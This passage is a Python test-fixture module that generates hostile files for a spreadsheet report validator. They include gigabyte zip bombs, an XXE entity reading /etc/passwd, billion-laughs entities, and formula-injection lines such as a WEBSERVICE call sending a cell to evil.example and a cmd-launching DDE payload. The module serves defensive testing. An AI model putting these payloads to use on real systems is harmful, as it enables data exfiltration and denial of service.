"""The hostile corpus of issue 14, generated (nothing large is committed): files a hostile or careless user could
hand to ``check``, ``fill``, ``export`` or ``collect``, and structural tampers the validator must flag (S2); and
(issue 19) the hostile published reports of :func:`hostile_reports` for ``import`` and ``check``: formula lines,
control characters, junk digits, UTF-16 without BOM, encrypted PDF and Word, pages too deep or too large, a .doc
LibreOffice cannot open.

The bombs are streamed into the zip (``ZipFile.open(name, "w", force_zip64=True)``): a gigabyte of sheet XML is
written in 1 MB pieces and compresses to a few MB, so generating one takes seconds and little memory.

    python tests/hostile.py OUT_DIR      writes the corpus into OUT_DIR (for looking at it by hand)

:func:`hostile_corpus` and :func:`tamper_corpus` are used by ``tests/test_hostile.py`` and ``bench/hostile.py``;
:func:`run_measured` runs one command as a subprocess and measures its wall time and peak memory.
"""

from __future__ import annotations

import contextlib
import os
import re
import shutil
import signal
import stat
import subprocess
import sys
import threading
import time
import zipfile
from collections.abc import Callable, Iterable, Iterator, Mapping
from dataclasses import dataclass, field
from pathlib import Path

DATA = Path(__file__).parent / "data"
MB = 1024 * 1024
GB = 1024 * MB

#: transitional -> strict namespaces (an Excel "Strict Open XML" save)
STRICT_NS = {
    "http://schemas.openxmlformats.org/spreadsheetml/2006/main": "http://purl.oclc.org/ooxml/spreadsheetml/main",
    "http://schemas.openxmlformats.org/officeDocument/2006/relationships":
        "http://purl.oclc.org/ooxml/officeDocument/relationships",
    "http://schemas.openxmlformats.org/drawingml/2006/main": "http://purl.oclc.org/ooxml/drawingml/main",
}


@dataclass(frozen=True)
class Case:
    """One file of the corpus: ``name`` (stable id), ``path``, the exit codes ``check`` may give, and whether
    the file is a workbook from our template that must be flagged as tampered (``s2``: the S2 variant code
    expected, "" for "any S2")."""

    name: str
    path: Path
    check_exits: frozenset[int] = frozenset({0, 1, 2})
    s2: str | None = None
    note: str = ""


# ---- zip surgery ----------------------------------------------------------------------------------------------

def sheet_parts(zf: zipfile.ZipFile) -> dict[str, str]:
    """sheet name -> its part ("xl/worksheets/sheet3.xml"), from workbook.xml and its relationships."""
    wb = zf.read("xl/workbook.xml").decode()
    rels = zf.read("xl/_rels/workbook.xml.rels").decode()
    targets = {m.group(1): m.group(2) for m in re.finditer(r'<Relationship[^>]*?Id="([^"]+)"[^>]*?Target="([^"]+)"',
                                                           rels)}
    targets |= {m.group(2): m.group(1) for m in re.finditer(r'<Relationship[^>]*?Target="([^"]+)"[^>]*?Id="([^"]+)"',
                                                            rels)}
    out = {}
    for m in re.finditer(r"<sheet [^>]*?/>", wb):
        tag = m.group(0)
        name = _unescape(re.search(r'name="([^"]*)"', tag).group(1))  # type: ignore[union-attr]
        rid = re.search(r'r:id="([^"]*)"', tag).group(1)  # type: ignore[union-attr]
        target = targets[rid].lstrip("/")
        out[name] = target if target.startswith("xl/") else "xl/" + target
    return out


def _unescape(s: str) -> str:
    return re.sub(r"&#(\d+);", lambda m: chr(int(m.group(1))), s).replace("&amp;", "&")


Edit = Callable[[bytes], bytes] | bytes | None


def rewrite(src: Path, dst: Path, edits: Mapping[str, Edit] | None = None, *,
            streams: Mapping[str, Callable[[], Iterable[bytes]]] | None = None,
            extra: Mapping[str, bytes] | None = None, stored: Iterable[str] = (), level: int = 6) -> Path:
    """A copy of the zip ``src`` at ``dst`` with parts changed (``edits``: part -> new bytes, a function of the old
    bytes, or None to drop it), parts streamed (``streams``: part -> pieces of its new content, written with
    ZIP64 so a gigabyte fits), parts added (``extra``) and parts written uncompressed (``stored``)."""
    edits, streams, extra, stored = dict(edits or {}), dict(streams or {}), dict(extra or {}), set(stored)
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as zout:
        for info in zin.infolist():
            name = info.filename
            if name in streams:
                zi = zipfile.ZipInfo(name, info.date_time)
                zi.compress_type = zipfile.ZIP_DEFLATED
                with zout.open(zi, "w", force_zip64=True) as fh:
                    for piece in streams[name]():
                        fh.write(piece)
                continue
            data = zin.read(name)
            if name in edits:
                e = edits[name]
                if e is None:
                    continue
                data = e if isinstance(e, bytes) else e(data)
            zout.writestr(name, data, zipfile.ZIP_STORED if name in stored else zipfile.ZIP_DEFLATED)
        for name, data in extra.items():
            zout.writestr(name, data)
    return dst


def _sub(pattern: str, repl: str, count: int = 0, flags: int = 0) -> Callable[[bytes], bytes]:
    def edit(data: bytes) -> bytes:
        new, n = re.subn(pattern, repl, data.decode("utf-8"), count=count, flags=flags)
        assert n, f"pattern not found: {pattern}"
        return new.encode("utf-8")
    return edit


def _split_at(data: bytes, marker: bytes, *, after: bool = False) -> tuple[bytes, bytes]:
    i = data.index(marker) + (len(marker) if after else 0)
    return data[:i], data[i:]


def _repeat(piece: bytes, total: int) -> Iterator[bytes]:
    block = piece * max(1, MB // len(piece))
    for _ in range(max(1, total // len(block))):
        yield block


# ---- the cases ---------------------------------------------------------------------------------------------------

def _padded(src: Path, dst: Path, part: str, filler: Callable[[], Iterator[bytes]], marker: bytes, *,
            after: bool) -> Path:
    with zipfile.ZipFile(src) as zf:
        head, tail = _split_at(zf.read(part), marker, after=after)

    def pieces() -> Iterator[bytes]:
        yield head
        yield from filler()
        yield tail
    return rewrite(src, dst, streams={part: pieces}, level=1)


def _big_paste(src: Path, dst: Path, parts: Mapping[str, str], size: int) -> Path:
    """An extra sheet 粘贴数据 of ``size`` bytes of random numbers (barely compressible), written stored."""
    n_sheets = len(parts)
    new_part = f"xl/worksheets/sheet{n_sheets + 1}.xml"
    table = bytes.maketrans(bytes(range(256)), (b"0123456789" * 26)[:256])
    rid = "rIdPaste"

    def sheet() -> Iterator[bytes]:
        yield (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<worksheet xmlns="http://schemas.'
               b'openxmlformats.org/spreadsheetml/2006/main"><sheetData>')
        written, r = 0, 1
        while written < size:
            digits = os.urandom(10 * 20 * 500).translate(table)
            rows = []
            for k in range(500):
                cells = b"".join(b"<c><v>" + digits[(k * 20 + j) * 10:(k * 20 + j) * 10 + 10] + b"</v></c>"
                                 for j in range(20))
                rows.append(b'<row r="%d">' % r + cells + b"</row>")
                r += 1
            block = b"".join(rows)
            written += len(block)
            yield block
        yield b"</sheetData></worksheet>"

    def add_sheet(data: bytes) -> bytes:
        return data.replace(b"</sheets>", b'<sheet xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
                            b'relationships" name="\xe7\xb2\x98\xe8\xb4\xb4\xe6\x95\xb0\xe6\x8d\xae" sheetId="99" '
                            b'state="visible" r:id="' + rid.encode() + b'"/></sheets>')

    def add_rel(data: bytes) -> bytes:
        return data.replace(b"</Relationships>", b'<Relationship Id="' + rid.encode() + b'" Type="http://schemas.'
                            b'openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="/'
                            + new_part.encode() + b'"/></Relationships>')

    def add_type(data: bytes) -> bytes:
        return data.replace(b"</Types>", b'<Override PartName="/' + new_part.encode() + b'" ContentType="application/'
                            b'vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>')

    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            data = zin.read(info.filename)
            fix = {"xl/workbook.xml": add_sheet, "xl/_rels/workbook.xml.rels": add_rel,
                   "[Content_Types].xml": add_type}.get(info.filename)
            zout.writestr(info.filename, fix(data) if fix else data)
        with zout.open(zipfile.ZipInfo(new_part, (2024, 1, 20, 10, 0, 0)), "w", force_zip64=True) as fh:
            for piece in sheet():
                fh.write(piece)
    return dst


def _crc_corrupted(src: Path, dst: Path, part: str) -> Path:
    """``part`` stored uncompressed, one digit of a value changed in place: the XML still parses, the CRC fails."""
    rewrite(src, dst, stored=[part])
    raw = bytearray(dst.read_bytes())
    with zipfile.ZipFile(src) as zf:
        xml = zf.read(part)
    start = raw.index(xml[:200])
    m = re.search(rb"<v>(\d)", xml)
    assert m is not None
    pos = start + m.start(1)
    raw[pos] = ord("7") if raw[pos] != ord("7") else ord("3")
    dst.write_bytes(bytes(raw))
    return dst


def _strict(src: Path, dst: Path) -> Path:
    """An Excel "Strict Open XML" save: the same workbook with the strict namespaces and conformance="strict"."""
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            data = zin.read(info.filename)
            if info.filename.endswith((".xml", ".rels")):
                text = data.decode("utf-8")
                for a, b in STRICT_NS.items():
                    text = text.replace(a, b)
                if info.filename == "xl/workbook.xml":
                    text = text.replace("<workbook ", '<workbook conformance="strict" ', 1)
                data = text.encode("utf-8")
            zout.writestr(info, data)
    return dst


_XXE = ('<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd"><!ENTITY lol "lol">'
        + "".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10))
        + "]>")


def _entities(src: Path, dst: Path) -> Path:
    """XXE (an external entity on /etc/passwd) and billion laughs declared in every XML part, the external entity
    referenced in the agency name and the laughs in a narrative cell."""
    def add(data: bytes) -> bytes:
        text = data.decode("utf-8")
        decl = re.match(r"<\?xml[^>]*\?>\s*", text)
        head = decl.group(0) if decl else ""
        return (head + _XXE + text[len(head):]).encode("utf-8")

    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            data = zin.read(info.filename)
            if info.filename.endswith((".xml", ".rels")):
                data = add(data)
            zout.writestr(info, data)
    parts = _parts(dst)
    tmp = dst.with_name(dst.stem + ".tmp.xlsx")
    rewrite(dst, tmp, {parts["基本信息"]: _sub(r"(<c r=\"B3\"[^>]*>(?:<is>)?<t[^>]*>)", r"\1&xxe;", count=1),
                       parts["正文"]: _sub(r"(<c r=\"B\d+\"[^>]*t=\"inlineStr\"[^>]*><is><t[^>]*>)", r"\1&lol9;",
                                          count=1)})
    os.replace(tmp, dst)
    return dst


def _macro(src: Path, dst: Path) -> Path:
    """Saved as .xlsm with a VBA project (the bytes of an OLE file; its macros are never run)."""
    vba = (DATA / "sample-old-excel.xls").read_bytes()[:4096]

    def types(data: bytes) -> bytes:
        return (data.replace(b"spreadsheetml.sheet.main+xml", b"ms-excel.sheet.macroEnabled.main+xml")
                .replace(b"</Types>", b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
                         b"</Types>"))

    def rels(data: bytes) -> bytes:
        return data.replace(b"</Relationships>", b'<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/'
                            b'office/2006/relationships/vbaProject" Target="vbaProject.bin"/></Relationships>')
    return rewrite(src, dst, {"[Content_Types].xml": types, "xl/_rels/workbook.xml.rels": rels},
                   extra={"xl/vbaProject.bin": vba})


def _parts(path: Path) -> dict[str, str]:
    with zipfile.ZipFile(path) as zf:
        return sheet_parts(zf)


def _replace_cell(cell: str, inner: str, t: str = "") -> Callable[[bytes], bytes]:
    """The <c> of ``cell`` (keeping its style) with new content ``inner`` and type ``t``."""
    pattern = re.compile(rf'(<c r="{cell}"(?: s="\d+")?)(?: t="\w+")?(?:/>|>.*?</c>)')
    typ = f' t="{t}"' if t else ""

    def edit(data: bytes) -> bytes:
        new, n = pattern.subn(lambda m: m.group(1) + typ + ">" + inner + "</c>", data.decode("utf-8"), count=1)
        assert n, cell
        return new.encode("utf-8")
    return edit


def _text_xml(s: str) -> str:
    return "<is><t>" + s.replace("&", "&amp;").replace("<", "&lt;") + "</t></is>"


def hostile_corpus(sample: Path, folder: Path, *, bombs: bool = True) -> list[Case]:
    """Every hostile file of issue 14 in ``folder`` (made from ``sample``, a filled workbook of our template)."""
    from xl_addin import spec

    folder.mkdir(parents=True, exist_ok=True)
    parts = _parts(sample)
    t3, summary = parts["表三"], parts["校验汇总"]
    loc = spec.LAYOUT.locations
    new, granted = loc["t3.new.natural"], loc["t3.granted.natural"]
    cases: list[Case] = []
    bad = frozenset({1, 2})
    unreadable = frozenset({2})

    def add(name: str, path: Path, exits: frozenset[int] = frozenset({0, 1, 2}), s2: str | None = None,
            note: str = "") -> None:
        cases.append(Case(name, path, exits, s2, note))

    # a value in the last cell of the sheet: the native reader would allocate the whole grid
    add("xfd-cell", rewrite(sample, folder / "表三末格有值.xlsx",
                            {t3: _sub(r"</sheetData>", '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
                                      "</sheetData>", count=1)}), bad, "")
    add("merge-huge", rewrite(sample, folder / "表三巨大合并.xlsx",
                              {t3: _sub(r'<mergeCells count="(\d+)">', '<mergeCells><mergeCell ref="K1:XFD1048576"/>',
                                        count=1)}), bad, "")
    if bombs:
        add("bomb-blanks", _padded(sample, folder / "表三1GB空白.xlsx", t3,
                                   lambda: _repeat(b" " * 1024, GB), b"<sheetData>", after=True), bad)
        row = b"<row>" + b"<c><v>1</v></c>" * 100 + b"</row>"
        add("bomb-rows", _padded(sample, folder / "表三1GB行.xlsx", t3,
                                 lambda: _repeat(row, GB), b"</sheetData>", after=False), bad)
        # an extra sheet is not tampering with the tables: check may pass it; fill must not choke on it
        add("big-50mb", _big_paste(sample, folder / "粘贴了大量数据.xlsx", parts, 50 * MB))
    fifo = folder / "管道.xlsx"
    if not fifo.exists():
        os.mkfifo(fifo)
    add("fifo", fifo, unreadable)
    add("crc", _crc_corrupted(sample, folder / "校验和错误.xlsx", t3), unreadable)
    add("strict", _strict(sample, folder / "严格格式.xlsx"), frozenset({0, 2}))
    add("huge-number", rewrite(sample, folder / "巨大数字.xlsx", {
        t3: lambda d: _replace_cell(granted.a1, "<v>100000000000000001</v>")(
            _replace_cell(new.a1, "<v>100000000000000001</v>")(d))}), frozenset({0, 1}))
    add("long-text", rewrite(sample, folder / "一万字.xlsx", {t3: _replace_cell(new.a1, _text_xml("多" * 10000),
                                                                                "inlineStr")}), frozenset({1}))
    add("status-text", rewrite(sample, folder / "状态行改为文字.xlsx",
                               {t3: _replace_cell("A2", _text_xml("本表校验通过"), "inlineStr")}), bad, "")
    add("summary-text", rewrite(sample, folder / "校验汇总改为通过.xlsx", {summary: _all_formulas_to("通过")}), bad, "")
    add("no-validation", rewrite(sample, folder / "删除数据验证.xlsx",
                                 {p: _drop_validations for p in parts.values()}), bad, "")
    add("no-names", rewrite(sample, folder / "删除命名.xlsx",
                            {"xl/workbook.xml": _sub(r'<definedName name="xa_[^"]*"[^>]*>[^<]*</definedName>', "")}),
        bad, "")
    add("hidden-edited", rewrite(sample, folder / "隐藏表被改.xlsx",
                                 {parts[spec.HIDDEN_SHEET]: _sub(r"xl_addin\.gov-info-annual-report", "other-template")}),
        bad, "")
    add("encrypted", _copy(DATA / "sample-encrypted.xlsx", folder / "加密.xlsx"), unreadable)
    add("xls", _copy(DATA / "sample-old-excel.xls", folder / "旧版.xls"), unreadable)
    add("xls-renamed", _copy(DATA / "sample-old-excel.xls", folder / "旧版改名.xlsx"), unreadable)
    add("ods", _copy(DATA / "report.ods", folder / "开放格式.ods"), unreadable)
    csv = folder / "表格.xlsx.csv.xlsx"
    csv.write_text("机关名称,新收\n某局,3\n", encoding="utf-8")
    add("csv-renamed", csv, unreadable)
    d = folder / "文件夹.xlsx"
    d.mkdir(exist_ok=True)
    add("directory", d, unreadable)
    locked = _copy(sample, folder / "无权限.xlsx")
    locked.chmod(0)
    add("unreadable", locked, frozenset({0, 2}) if os.geteuid() == 0 else unreadable,
        "root reads it anyway")
    add("entities", _entities(sample, folder / "实体注入.xlsx"), frozenset({0, 1, 2}))
    chinese = folder / "中文目录" / "县政务公开办（收件）" / "某某局 2023年 年报.xlsx"
    chinese.parent.mkdir(parents=True, exist_ok=True)
    add("chinese-path", _copy(sample, chinese), frozenset({0}))
    add("xlsm", _macro(sample, folder / "带宏.xlsm"), frozenset({0, 1, 2}))
    add("empty", _copy(DATA / "empty.xlsx", folder / "空文件.xlsx"), unreadable)
    add("truncated", _copy(DATA / "broken-truncated.xlsx", folder / "截断.xlsx"), unreadable)
    # issue 19: a live formula in a narrative cell (S2.input); a part whose deflated data is damaged (zlib.error,
    # which ZipFile.testzip lets through); 1e308 in every count cell (sums beyond a float)
    narrative = parts[spec.NARRATIVE_SHEET]
    add("formula-input", rewrite(sample, folder / "正文有公式.xlsx", {narrative: _replace_cell(
        loc["s1.proactive"].a1, '<f>WEBSERVICE("http://evil.example/?d="&amp;B3)</f>')}), frozenset({1}), "S2.input")
    add("crc-deflated", _deflate_damaged(sample, folder / "压缩数据损坏.xlsx", t3), unreadable)
    counts = [k for k in spec.INPUT_KEYS if spec.DATA_CELLS[k].kind is spec.Kind.COUNT and loc[k].sheet == "表三"]
    add("counts-1e308", rewrite(sample, folder / "件数1e308.xlsx", {t3: _chain(
        [_replace_cell(loc[k].a1, "<v>1E+308</v>") for k in counts])}), frozenset({1}))
    return cases


def _chain(edits: list[Callable[[bytes], bytes]]) -> Callable[[bytes], bytes]:
    def edit(data: bytes) -> bytes:
        for e in edits:
            data = e(data)
        return data
    return edit


def _deflate_damaged(src: Path, dst: Path, part: str) -> Path:
    """``part`` deflated, 40 bytes early in its compressed data inverted: inflating it fails (zlib.error)
    before any checksum is compared."""
    shutil.copyfile(src, dst)
    raw = bytearray(dst.read_bytes())
    with zipfile.ZipFile(dst) as zf:
        info = zf.getinfo(part)
    assert info.compress_type == zipfile.ZIP_DEFLATED and info.compress_size > 400
    name_len, extra_len = int.from_bytes(raw[info.header_offset + 26:info.header_offset + 28], "little"), \
        int.from_bytes(raw[info.header_offset + 28:info.header_offset + 30], "little")
    start = info.header_offset + 30 + name_len + extra_len + 100
    raw[start:start + 40] = bytes(b ^ 0xFF for b in raw[start:start + 40])
    dst.write_bytes(bytes(raw))
    return dst


def _copy(src: Path, dst: Path) -> Path:
    if dst.exists():
        dst.chmod(0o644)
    shutil.copyfile(src, dst)
    return dst


def _drop_validations(data: bytes) -> bytes:
    return re.sub(rb"<dataValidations\b.*?</dataValidations>", b"", data, flags=re.S)


def _all_formulas_to(text: str) -> Callable[[bytes], bytes]:
    """Every formula cell of a sheet replaced by the text ``text`` (what a clerk pasting values would leave)."""
    def edit(data: bytes) -> bytes:
        s = data.decode("utf-8")
        pattern = r'(<c r="[A-Z]+\d+"(?: s="\d+")?)(?: t="\w+")?><f>.*?</f>(?:<v>.*?</v>)?</c>'
        new, n = re.subn(pattern, lambda m: m.group(1) + ' t="inlineStr">' + _text_xml(text) + "</c>", s)
        assert n > 100, n
        return new.encode("utf-8")
    return edit


# ---- hostile published reports (issue 19) --------------------------------------------------------------------------

@dataclass(frozen=True)
class ReportCase:
    """One published report for ``import``/``check``: read (``refusal`` "") or refused with a message holding
    ``refusal``; ``needs``: an external program it needs ("soffice")."""

    name: str
    path: Path
    refusal: str = ""
    needs: str = ""
    note: str = ""


#: a line a formula would start, for each character a spreadsheet takes as a formula's start
FORMULA_LINES = ('=WEBSERVICE("http://evil.example/?d="&B3)', '=HYPERLINK("http://evil.example","点此")',
                 "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)")


def _minimal_pdf(objects: list[bytes], trailer: bytes = b"") -> bytes:
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for i, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % i + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R " % (len(objects) + 1) + trailer + b">>\nstartxref\n%d\n%%%%EOF\n" % xref
    return bytes(out)


def encrypted_pdf() -> bytes:
    """A one-page PDF under the standard security handler whose user password is not empty: no reader opens it
    without the password."""
    return _minimal_pdf([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                         b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
                         b"<< /Filter /Standard /V 1 /R 2 /O <" + b"11" * 32 + b"> /U <" + b"22" * 32 + b"> /P -4 >>"],
                        b"/Encrypt 4 0 R /ID [<" + b"33" * 16 + b"> <" + b"33" * 16 + b">] ")


def _html_page(lines: list[str]) -> str:
    import html

    return "<html><head><meta charset=\"utf-8\"></head><body>" + "".join(
        f"<p>{html.escape(x)}</p>" for x in lines) + "</body></html>"


def hostile_reports(report: str, folder: Path) -> list[ReportCase]:
    """Every hostile published report of issue 19 in ``folder``, made from ``report`` (the text of a real report
    in the flattened text form, tables as tab-indented cells)."""
    folder.mkdir(parents=True, exist_ok=True)
    cases: list[ReportCase] = []
    lines = report.split("\n")

    def write(name: str, content: str | bytes) -> Path:
        p = folder / name
        if isinstance(content, str):
            p.write_text(content, encoding="utf-8")
        else:
            p.write_bytes(content)
        return p

    heads = ["一、总体情况\n", "（一）主动公开方面。", "（二）依申请公开方面。", "（三）政府信息管理方面。",
             "（四）政府信息公开平台建设方面。"]
    injected = report
    for head, line in zip(heads, FORMULA_LINES, strict=True):
        assert head in injected, head
        injected = injected.replace(head, head + ("" if head.endswith("\n") else "\n") + line + "\n", 1)
    cases.append(ReportCase("formula-lines", write("以等号开头的行.txt", injected)))
    manual = report.replace("（一）主动公开方面。", "（一）主动公开方面。\x0b第二行\x0c第三行\x01\x1f", 1)
    cases.append(ReportCase("vertical-tab", write("手动换行符.txt", manual)))
    page = _html_page(lines).replace("（一）主动公开方面。", "（一）主动公开方面。&#11;第二行&#1;", 1)
    cases.append(ReportCase("vertical-tab-html", write("手动换行符.html", page)))
    first = next(i for i, x in enumerate(lines) if x.strip() == "一、本年新收政府信息公开申请数量")
    for n in (400, 5000):
        digits = list(lines)
        digits[first + 1] = "\t" + "9" * n
        cases.append(ReportCase(f"digits-{n}", write(f"{n}位数字.txt", "\n".join(digits))))
    cases.append(ReportCase("utf16-no-bom", write("无BOM的UTF-16.txt", report.encode("utf-16-le"))))
    cases.append(ReportCase("pdf-encrypted", write("加密.pdf", encrypted_pdf()), "已加密"))
    # an Office file with an open password is an OLE file whatever it holds: it was called an old .doc misnamed
    cases.append(ReportCase("docx-encrypted", _copy(DATA / "sample-encrypted.xlsx", folder / "加密.docx"), "已加密"))
    half = len(lines) // 2
    deep = _html_page(lines[:half]).replace("</body>", "<div>" * 300 + "".join(
        f"<p>{x}</p>" for x in lines[half:]) + "</div>" * 300 + "</body>")
    cases.append(ReportCase("html-deep", write("嵌套300层.html", deep), "嵌套超过"))
    big = folder / "61MB网页.html"
    with big.open("w", encoding="utf-8") as fh:  # a real page padded with a comment to just over the limit
        fh.write(_html_page(lines).replace("<body>", "<body><!--" + "x" * (61 * MB) + "-->"))
    cases.append(ReportCase("html-61mb", big, "不像一份年度报告"))
    sparse = folder / "65MB网页.html"
    with sparse.open("wb") as fh:  # beyond every file limit (sparse: no disk taken)
        fh.truncate(65 * MB)
    cases.append(ReportCase("html-65mb", sparse, "不像一份年度报告"))
    junk = write("损坏的旧版Word.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4096))
    cases.append(ReportCase("doc-unloadable", junk, "另存为”.docx", needs="soffice"))
    return cases


# ---- the tamper corpus -------------------------------------------------------------------------------------------

@dataclass(frozen=True)
class Tamper:
    name: str  # the variant of issue 14 ("no-validation", ...)
    how: str  # "openpyxl", "xml" or "libreoffice" (a LibreOffice re-save after the openpyxl edit)
    path: Path
    codes: tuple[str, ...] = field(default=())  # the S2 variant codes that would name it (any one), when known


def _opx_edits() -> dict[str, Callable[[object], None]]:
    from xl_addin import spec

    def no_validation(wb: object) -> None:
        for ws in wb.worksheets:  # type: ignore[attr-defined]
            ws.data_validations.dataValidation = []

    def hidden_deleted(wb: object) -> None:
        del wb[spec.HIDDEN_SHEET]  # type: ignore[attr-defined]

    def hidden_edited(wb: object) -> None:
        ws = wb[spec.HIDDEN_SHEET]  # type: ignore[index]
        ws["B2"] = "other-template"
        ws["B3"] = "2019"

    def no_names(wb: object) -> None:
        names = wb.defined_names  # type: ignore[attr-defined]
        for n in [n for n in names if n.startswith("xa_")]:
            del names[n]

    def status_text(wb: object) -> None:
        wb["表三"]["A2"] = "本表校验通过"  # type: ignore[index]

    def summary_text(wb: object) -> None:
        for row in wb["校验汇总"].iter_rows():  # type: ignore[index]
            for c in row:
                if isinstance(c.value, str) and c.value.startswith("="):
                    c.value = "通过"

    return {"no-validation": no_validation, "hidden-deleted": hidden_deleted, "hidden-edited": hidden_edited,
            "no-names": no_names, "status-text": status_text, "summary-text": summary_text}


def _xml_edits(parts: Mapping[str, str]) -> dict[str, dict[str, Edit]]:
    from xl_addin import spec

    hidden = parts[spec.HIDDEN_SHEET]

    def drop_sheet(data: bytes) -> bytes:
        return re.sub(rb'<sheet [^>]*name="_xl_addin"[^>]*/>', b"", data)

    return {
        "no-validation": {p: _drop_validations for p in parts.values()},
        "hidden-deleted": {"xl/workbook.xml": drop_sheet, hidden: None},
        "hidden-edited": {hidden: _sub(r">2021<", ">2019<", count=1)},
        "no-names": {"xl/workbook.xml": _sub(r'<definedName name="xa_[^"]*"[^>]*>[^<]*</definedName>', "")},
        "status-text": {parts["表三"]: _replace_cell("A2", _text_xml("本表校验通过"), "inlineStr")},
        "summary-text": {parts["校验汇总"]: _all_formulas_to("通过")},
        "xfd-cell": {parts["表三"]: _sub(r"</sheetData>", '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
                                         "</sheetData>", count=1)},
        "merge-huge": {parts["表三"]: _sub(r'<mergeCells count="(\d+)">', '<mergeCells><mergeCell ref="K1:XFD1048576"/>',
                                          count=1)},
    }


def tamper_corpus(sample: Path, folder: Path, *, libreoffice: bool = True) -> tuple[list[Tamper], list[Path]]:
    """(the tampered files, the untouched sample re-saved by openpyxl and by LibreOffice)."""
    import openpyxl

    folder.mkdir(parents=True, exist_ok=True)
    parts = _parts(sample)
    out: list[Tamper] = []
    opx: list[Path] = []
    for name, edit in _opx_edits().items():
        wb = openpyxl.load_workbook(sample)
        edit(wb)
        p = folder / f"opx-{name}.xlsx"
        wb.save(p)
        opx.append(p)
        out.append(Tamper(name, "openpyxl", p))
    for name, edits in _xml_edits(parts).items():
        out.append(Tamper(name, "xml", rewrite(sample, folder / f"xml-{name}.xlsx", edits)))
    clean_opx = folder / "clean-openpyxl.xlsx"
    openpyxl.load_workbook(sample).save(clean_opx)
    clean = [clean_opx]
    if libreoffice:
        from xl_addin.adapters import office

        lo_in = folder / "lo-in"
        lo_in.mkdir(exist_ok=True)
        sources = []
        for p in [*opx, sample]:
            q = lo_in / ("lo-" + p.name.removeprefix("opx-") if p != sample else "clean-libreoffice.xlsx")
            shutil.copyfile(p, q)
            sources.append(q)
        saved = office.convert(sources, "xlsx", folder / "lo-out", recalc=False)
        for p, t in zip(saved[:-1], [t for t in out if t.how == "openpyxl"], strict=True):
            out.append(Tamper(t.name, "libreoffice", p))
        clean.append(saved[-1])
    return out, clean


# ---- hostile published reports (issue 19: items 15-17) ------------------------------------------------------------

#: the section headings of a report, so that what follows them is read as one (tables, narrative)
REPORT_HEADINGS = ("一、总体情况", "二、主动公开政府信息情况", "三、收到和处理政府信息公开申请情况",
                   "四、政府信息公开行政复议、行政诉讼情况", "五、存在的主要问题及改进情况", "六、其他需要报告的事项")


def many_glyph_pdf(path: Path, runs: int, *, pages: int = 1, per_run: int = 10) -> Path:
    """A minimal PDF written by hand: ``pages`` pages each holding ``runs`` text runs of ``per_run`` digits, each
    run its own text object at its own place (a producer that positions every word: as many runs as words)."""
    import zlib

    objs: list[bytes] = [b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"]
    pages_id = 2 + 2 * pages  # the font, then a content stream and a page per page, then the page tree
    page_ids = []
    for _ in range(pages):
        ops = []
        for k in range(runs):
            x, y = 20 + (k % 8) * 70, 820 - (k // 8) % 400 * 2
            ops.append(b"BT /F1 2 Tf %d %d Td (%s) Tj ET" % (x, y, (b"%d" % (10 ** 12 + k))[-per_run:]))
        content = zlib.compress(b"\n".join(ops))
        objs.append(b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(content) + content + b"\nendstream")
        objs.append(b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] /Contents %d 0 R "
                    b"/Resources << /Font << /F1 1 0 R >> >> >>" % (pages_id, len(objs)))
        page_ids.append(len(objs))
    objs.append(b"<< /Type /Pages /Kids [%s] /Count %d >>" % (b" ".join(b"%d 0 R" % i for i in page_ids), pages))
    assert len(objs) == pages_id
    objs.append(b"<< /Type /Catalog /Pages %d 0 R >>" % pages_id)
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for i, body in enumerate(objs, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % i + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objs) + 1, len(objs), xref)
    path.write_bytes(bytes(out))
    return path


def numbered_lines_page(path: Path, lines: int) -> Path:
    """A web page with the report's headings and ``lines`` paragraphs each ending in a number (every one is
    matched against the official table labels)."""
    with path.open("w", encoding="utf-8") as fh:
        fh.write("<html><head><meta charset='utf-8'><title>某局2023年政府信息公开工作年度报告</title></head><body>")
        for h in REPORT_HEADINGS[:3]:
            fh.write(f"<p>{h}</p>")
        for i in range(lines):
            fh.write(f"<p>第{i}项 本年新收政府信息公开申请数量 {i}</p>\n")
        for h in REPORT_HEADINGS[3:]:
            fh.write(f"<p>{h}</p>")
        fh.write("</body></html>")
    return path


def junk_doc(path: Path, size: int = 2 * MB) -> Path:
